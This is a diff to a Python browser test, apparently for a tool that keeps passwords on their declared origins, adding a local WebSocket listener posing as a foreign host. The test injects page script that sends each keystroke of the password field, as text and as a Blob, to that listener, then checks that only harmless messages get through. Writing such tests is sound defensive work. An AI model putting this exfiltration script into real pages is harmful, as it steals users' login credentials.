@@ -1,8 +1,12 @@
 """A password stays on the origins that it is declared for, whatever the page does with it."""
 
 import asyncio
+from collections.abc import AsyncIterator
+from dataclasses import dataclass, field
 
 import pytest
+import pytest_asyncio
+from aiohttp import web
 
 from tests.browser.tab import Tab, css
 from webmend.domain.evidence import ErrorKind
@@ -72,3 +76,46 @@ async def _fails(tab: Tab) -> ErrorKind | None:
     except StepFailed as failed:
         return failed.error.kind
     return None
+
+
+@dataclass
+class Ear:
+    """A foreign host that listens at a web socket."""
+
+    port: int = 0
+    heard: list[str] = field(default_factory=list)
+
+    async def listen(self, request: web.Request) -> web.WebSocketResponse:
+        socket = web.WebSocketResponse()
+        await socket.prepare(request)
+        async for message in socket:
+            self.heard.append(message.data)
+        return socket
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def ear() -> AsyncIterator[Ear]:
+    ear, app = Ear(), web.Application()
+    app.router.add_get("/", ear.listen)
+    runner = web.AppRunner(app, shutdown_timeout=0.1)  # the page holds its socket open until its tab is closed
+    await runner.setup()
+    await web.TCPSite(runner, "127.0.0.1", 0).start()
+    ear.port = runner.addresses[0][1]
+    yield ear
+    await runner.cleanup()
+
+
+async def test_a_web_socket_carries_everything_but_the_password(tab: Tab, ear: Ear) -> None:
+    tab.site.put("/in", "<h1>Welcome</h1>")
+    told = "p.oninput = () => { socket.send('u:' + p.value); socket.send(new Blob([p.value])); socket.send('typed') }"
+    script = f"<script>const socket = new WebSocket('ws://localhost:{ear.port}/'); {told}</script>"
+    await tab.session.declare((tab.site.url,))
+    await tab.open(f"{LOGIN}{script}<script>socket.onopen = () => socket.send('hello')</script>")
+
+    failed = await _fails(tab)
+
+    assert failed == ErrorKind.DEFINITION
+    async with asyncio.timeout(10):
+        while len(ear.heard) < 2:
+            await asyncio.sleep(0.02)
+    assert ear.heard == ["hello", "typed"]
